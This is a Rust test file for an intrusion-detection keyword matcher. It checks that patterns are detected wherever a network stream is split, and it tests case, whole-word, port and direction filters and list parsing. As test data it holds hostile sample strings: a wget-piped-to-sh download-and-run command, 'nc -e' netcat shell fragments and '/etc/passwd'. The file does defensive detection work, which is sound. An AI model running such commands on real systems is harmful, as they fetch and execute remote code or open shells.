//! Keywords are found wherever they are cut, and nothing else is.

use super::*;
use crate::keyword::{BUILTIN, Where, builtin};
use anomalyzer_wire::Addr;
use proptest::prelude::*;

fn context(offset: u64) -> ScanContext {
    let tuple = FiveTuple {
        src: Addr::v4([10, 0, 0, 1]),
        dst: Addr::v4([10, 0, 0, 2]),
        src_port: 40_000,
        dst_port: 80,
        proto: 6,
    };
    ScanContext { app: AppProto::Http, tuple, to_server: true, offset, place: Place::Stream }
}

fn matcher(patterns: &str) -> Matcher {
    let text = format!("[list]\nname = 'test'\n{patterns}");
    Matcher::new(&[List::parse(&text, "test.toml").unwrap()]).unwrap()
}

fn pattern(name: &str, rest: &str) -> String {
    format!("[[pattern]]\nname = '{name}'\n{rest}\n")
}

/// Hits as (pattern, offset, repeats) when the text comes in the given pieces.
fn search(matcher: &Matcher, pieces: &[&[u8]]) -> Vec<(String, u64)> {
    let mut state = ScanState::default();
    let mut all = Vec::new();
    let mut offset = 0;
    for piece in pieces {
        let mut hits = Vec::new();
        matcher.scan(&mut state, piece, &context(offset), &mut hits);
        offset += piece.len() as u64;
        all.append(&mut hits);
    }
    let mut hits = Vec::new();
    matcher.finish(&mut state, &context(offset), &mut hits);
    all.append(&mut hits);
    let tuple = context(0).tuple;
    let described = all.into_iter().map(|hit| {
        let hit = matcher.describe(hit, FlowId(1), tuple, true);
        (hit.pattern.to_string(), hit.offset)
    });
    let mut found: Vec<_> = described.collect();
    found.sort();
    found
}

/// A hundred bytes of filling with `word` in the midst: cut in two and three at every place.
fn cut_everywhere(matcher: &Matcher, word: &[u8], name: &str, offset: u64) {
    let mut text = vec![b'.'; 40];
    text.extend(word);
    text.extend([b'.'; 40]);
    let expected = (name.to_owned(), 40 + offset);
    for first in 0..text.len() {
        let (head, tail) = text.split_at(first);
        let found = search(matcher, &[head, tail]);
        assert!(found.contains(&expected), "{name} cut at {first}: {found:?}");
        let second = tail.len().min(2);
        let found = search(matcher, &[head, &tail[..second], &tail[second..]]);
        assert!(found.contains(&expected), "{name} cut at {first} and 2 on: {found:?}");
    }
    let bytes: Vec<&[u8]> = text.chunks(1).collect();
    assert!(search(matcher, &bytes).contains(&expected), "{name} byte by byte");
}

#[test]
fn every_builtin_literal_is_found_wherever_it_is_cut() {
    for known in BUILTIN {
        let mut list = builtin(known.name).unwrap().unwrap();
        for pattern in &mut list.patterns {
            pattern.direction = Direction::Both;
            pattern.place = Where::Stream;
            pattern.app = None;
        }
        let matcher = Matcher::new(std::slice::from_ref(&list)).unwrap();
        for pattern in &list.patterns {
            if let Find::Bytes(bytes) = &pattern.find {
                cut_everywhere(&matcher, bytes, &pattern.name, bytes.len() as u64 - 1);
            }
        }
    }
}

#[test]
fn expressions_are_found_wherever_they_are_cut() {
    let matcher = Matcher::new(&[builtin("shells").unwrap().unwrap()]).unwrap();
    cut_everywhere(&matcher, b"wget http://x.org/a.sh -O- | sh;", "wget-pipe-sh", 8);
    let behind = self::matcher(&pattern("exe", "regex = '[a-z]{3,8}\\.exe=[0-9]'"));
    cut_everywhere(&behind, b"malware.exe=1", "exe", 11);
}

#[test]
fn case_matters_only_when_told() {
    let sensitive = matcher(&pattern("a", "text = 'PaSSwd'\ncase = 'sensitive'"));
    cut_everywhere(&sensitive, b"PaSSwd", "a", 5);
    assert_eq!(search(&sensitive, &[b"xx passwd", b" PASSWD paS", b"Swd"]), []);
    let loose = matcher(&pattern("a", "text = 'PaSSwd'"));
    assert_eq!(search(&loose, &[b"xx passwd", b" pAS", b"sWD"]).len(), 2);
}

#[test]
fn whole_words_stand_alone() {
    let words = matcher(&pattern("nc", "text = 'nc'\nwhole_word = true"));
    for (text, hits) in [
        ("nc", 1),
        ("nc -e", 1),
        ("sync", 0),
        ("ncat", 0),
        ("x nc", 1),
        ("nc_", 0),
        ("/nc;", 1),
        ("once", 0),
        ("nc nc", 1),
    ] {
        for cut in 0..=text.len() {
            let (head, tail) = text.as_bytes().split_at(cut);
            let found = search(&words, &[head, tail]);
            let told = found.len().min(1);
            assert_eq!(told, hits, "{text} cut at {cut}: {found:?}");
        }
    }
}

#[test]
fn ports_protocols_applications_and_directions_narrow() {
    let narrow = |rest: &str| matcher(&pattern("a", &format!("text = 'keyword'\n{rest}")));
    let hits = |m: &Matcher, to_server: bool| {
        let mut hits = Vec::new();
        m.scan_datagram(b"a keyword", &ScanContext { to_server, ..context(0) }, &mut hits);
        hits.len()
    };
    for (rest, to_server, expected) in [
        ("ports = [80, 81]", true, 1),
        ("ports = [81]", true, 0),
        ("protocol = 'tcp'", true, 1),
        ("protocol = 'udp'", true, 0),
        ("app = 'http'", true, 1),
        ("app = 'http'\nwhere = 'stream'\ndirection = 'to-server'", true, 1),
        // Sought in requests, which a datagram is not.
        ("app = 'http'\ndirection = 'to-server'", true, 0),
        ("app = 'dns'", true, 0),
        ("direction = 'to-server'", true, 1),
        ("direction = 'to-server'", false, 0),
        ("direction = 'to-client'", false, 1),
        ("direction = 'to-client'", true, 0),
    ] {
        assert_eq!(hits(&narrow(rest), to_server), expected, "{rest} {to_server}");
    }
}

#[test]
fn a_scan_goes_on_with_other_lists() {
    let old = matcher(
        &[pattern("a", "text = 'first-keyword'"), pattern("nc", "text = 'nc'\nwhole_word = true")]
            .concat(),
    );
    let new = matcher(
        &[
            pattern("b", "text = 'second-keyword'"),
            pattern("a", "text = 'first-keyword'"),
            pattern("nc", "text = 'nc'\nwhole_word = true"),
        ]
        .concat(),
    );
    let text = b".. first-keyword nc second-keyword nc";
    for cut in 0..text.len() {
        let (head, tail) = text.split_at(cut);
        let (mut state, mut hits) = (ScanState::default(), Vec::new());
        old.scan(&mut state, head, &context(0), &mut hits);
        let name = |m: &Matcher, hit: RawHit| {
            m.describe(hit, FlowId(1), context(0).tuple, true).pattern.to_string()
        };
        let mut found: Vec<String> = hits.drain(..).map(|hit| name(&old, hit)).collect();
        new.resume_scan(&mut state, &context(cut as u64));
        new.scan(&mut state, tail, &context(cut as u64), &mut hits);
        let mut last = Vec::new();
        new.finish(&mut state, &context(text.len() as u64), &mut last);
        hits.append(&mut last);
        found.extend(hits.drain(..).map(|hit| name(&new, hit)));
        found.sort();
        // The new one too, unless it began more than three bytes before the change.
        let begun = (21..33).contains(&cut);
        let known = found.iter().filter(|n| *n != "b").collect::<Vec<_>>();
        let words = known.iter().filter(|n| **n == "nc").count();
        assert!(
            (1..=2).contains(&words) && known[0] == "a" && known.len() == words + 1,
            "{cut}: {found:?}"
        );
        assert!(found.contains(&"b".to_owned()) || begun || cut > 20, "{cut}: {found:?}");
    }
}

#[test]
fn repeats_are_counted_and_excerpts_are_short() {
    let m = matcher(&pattern("a", "text = 'keyword'"));
    let text = b"keyword ".repeat(500);
    let mut hits = Vec::new();
    m.scan(&mut ScanState::default(), &text, &context(0), &mut hits);
    assert_eq!(hits.len(), 1);
    let hit = m.describe(hits.remove(0), FlowId(3), context(0).tuple, true);
    assert_eq!((hit.repeats, hit.offset, hit.excerpt.as_bytes().len()), (499, 6, 64));
    assert_eq!((&*hit.list, &*hit.pattern), ("test", "a"));
}

#[test]
fn an_empty_matcher_finds_nothing() {
    let mut hits = Vec::new();
    Matcher::default().scan_datagram(b"/etc/passwd", &context(0), &mut hits);
    assert!(hits.is_empty() && Matcher::default().is_empty());
}

#[test]
fn a_state_is_small() {
    assert!(size_of::<ScanState>() <= 16);
}

#[test]
fn lists_tell_all_their_faults() {
    let text = "[list]\nname = 'A b'\n[[pattern]]\nname = 'x'\ntext = 'a'\n[[pattern]]\nname = 'y'\n\
                hex = '9'\nseverty = 'low'\n[[pattern]]\nname = 'y'\ntext = 'abc'\nhex = '90'\n\
                [[pattern]]\nname = 'z'\nregex = '[a-z]+'\nports = [0]\nseverity = 'lo'\n";
    let error = List::parse(text, "mine.toml").unwrap_err();
    let lines: Vec<Option<usize>> = error.faults.iter().map(|f| f.line).collect();
    assert_eq!(lines, [2, 5, 8, 9, 11, 16, 17, 18].map(Some), "{error}");
    assert!(error.to_string().contains("did you mean `severity`?"), "{error}");
    assert!(error.to_string().starts_with("mine.toml:2: `list.name`: must be"), "{error}");
}

proptest! {
    #[test]
    fn however_it_is_cut_the_hits_are_the_same(
        text in "[nc /uploadUPLOAD.x]{0,120}",
        cuts in prop::collection::vec(0_usize..120, 0..8),
    ) {
        let m = matcher(&[
            pattern("word", "text = 'nc'\nwhole_word = true"),
            pattern("case", "text = 'upLOAD'\ncase = 'sensitive'"),
            pattern("plain", "text = 'load.'"),
            pattern("regex", "regex = 'upload{1,3}[./]x?'"),
            pattern("behind", "regex = '[ac]{1,3}oad'"),
        ].concat());
        let text = text.as_bytes();
        let mut cuts: Vec<usize> = cuts.into_iter().map(|c| c.min(text.len())).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&[u8]> = cuts.windows(2).map(|w| &text[w[0]..w[1]]).collect();
        // One byte at a time, no hit is only counted as a repeat of another.
        let single: Vec<&[u8]> = text.chunks(1).collect();
        let each = search(&m, &single);
        let cut = search(&m, &pieces);
        prop_assert!(cut.iter().all(|hit| each.contains(hit)), "{:?} {:?}", cut, each);
        let names = |hits: &[(String, u64)]| {
            let mut names: Vec<String> = hits.iter().map(|h| h.0.clone()).collect();
            names.dedup();
            names
        };
        prop_assert_eq!(names(&cut), names(&each));
    }

    #[test]
    fn lists_never_panic(text in "\\PC{0,200}") {
        let _ = List::parse(&text, "x");
        let _ = List::parse(&format!("[list]\nname='a'\n[[pattern]]\nname='b'\nregex='''{text}'''"), "x");
    }
}
